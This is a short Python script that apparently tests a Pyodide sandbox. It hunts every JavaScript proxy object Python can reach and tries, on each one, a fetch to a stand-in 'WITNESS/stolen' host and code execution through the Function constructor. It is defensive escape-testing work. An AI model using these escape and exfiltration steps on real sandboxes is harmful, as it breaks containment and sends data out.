# Every JavaScript object that Python holds, wherever it is.
import gc
import sys

from attack import attempt, does
from pyodide.ffi import JsProxy

found = [each for each in gc.get_objects() if isinstance(each, JsProxy)]
for module in list(sys.modules.values()):
    values = list(getattr(module, "__dict__", {}).values())
    found += [each for each in values if isinstance(each, JsProxy)]
for each in found:
    attempt("its fetch", lambda each=each: each.fetch("http://WITNESS/stolen"))
    attempt("its code", lambda each=each: each.constructor.constructor("return 1")())
does("the walk", lambda: len(found))
